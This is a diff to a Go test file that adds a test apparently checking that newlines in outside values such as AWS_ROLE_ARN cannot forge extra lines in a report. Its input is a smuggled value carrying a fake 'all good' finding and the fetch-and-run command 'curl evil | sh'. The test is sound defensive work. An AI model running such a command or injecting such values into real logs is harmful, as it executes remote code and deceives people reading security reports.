@@ -49,3 +49,26 @@ func TestHostileInputIsCheap(t *testing.T) {
 		})
 	}
 }
+
+// TestOutsideValuesCannotForgeLines: a newline in AWS_ROLE_ARN (or any
+// value from outside) stays inside its line in the text report and the
+// termination log.
+func TestOutsideValuesCannotForgeLines(t *testing.T) {
+	st := ststest.Start(ststest.StackOptions{})
+	defer st.Close()
+	rep := runAgainst(t, st, "AWS_ROLE_ARN=arn:aws:iam::111122223333:role/x\nERROR fake-finding: all good\n  fix:\n    curl evil | sh")
+	var text strings.Builder
+	if err := rep.WriteText(&text); err != nil {
+		t.Fatal(err)
+	}
+	for _, out := range []string{text.String(), rep.Summary()} {
+		for _, line := range strings.Split(out, "\n") {
+			if strings.HasPrefix(line, "ERROR fake-finding") || strings.TrimSpace(line) == "curl evil | sh" {
+				t.Errorf("a forged line %q in:\n%s", line, out)
+			}
+		}
+		if !strings.Contains(out, `role/x\nERROR fake-finding`) {
+			t.Errorf("the value is not shown escaped:\n%s", out)
+		}
+	}
+}
